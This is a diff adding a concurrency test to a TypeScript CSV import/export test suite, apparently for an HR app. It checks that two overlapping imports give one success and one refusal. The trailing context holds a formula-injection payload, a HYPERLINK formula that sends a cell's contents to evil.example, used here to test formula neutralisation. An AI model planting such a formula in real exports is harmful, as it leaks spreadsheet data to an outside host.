@@ -120,6 +120,24 @@ describe('CSV import and export', () => {
     expect(await count()).toBe(before);
   });
 
+  it('two overlapping imports of one file: one imports, the other is refused without a 500 or a partial write', async () => {
+    const hr = await sessionFor(t.app, 'hr@acme.test');
+    const letter = (n: number) => String.fromCharCode(65 + (n % 26));
+    const lines = Array.from(
+      { length: 300 },
+      (_, i) =>
+        `RACE${String(i).padStart(3, '0')},Racer ${i},,Sales,2026-03-01,KA,${letter(i)}${letter(i >> 3)}XP${letter(i >> 5)}${String(i).padStart(4, '0')}Z,,,`,
+    );
+    const file = [HEADER, ...lines].join('\n');
+    const before = await count();
+    const otherBrowser = await sessionFor(t.app, 'hr@acme.test');
+    const results = await Promise.all([upload(hr, file), upload(otherBrowser, file)]);
+    const statuses = results.map((r) => r.statusCode).sort();
+    expect(statuses[0], results.map((r) => r.body.slice(0, 300)).join('\n')).toBe(200);
+    expect([400, 422]).toContain(statuses[1]);
+    expect(await count()).toBe(before + 300);
+  });
+
   it('exports CSV with masked sensitive fields and neutralised formulas', async () => {
     const hr = await sessionFor(t.app, 'hr@acme.test');
     const evilName = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
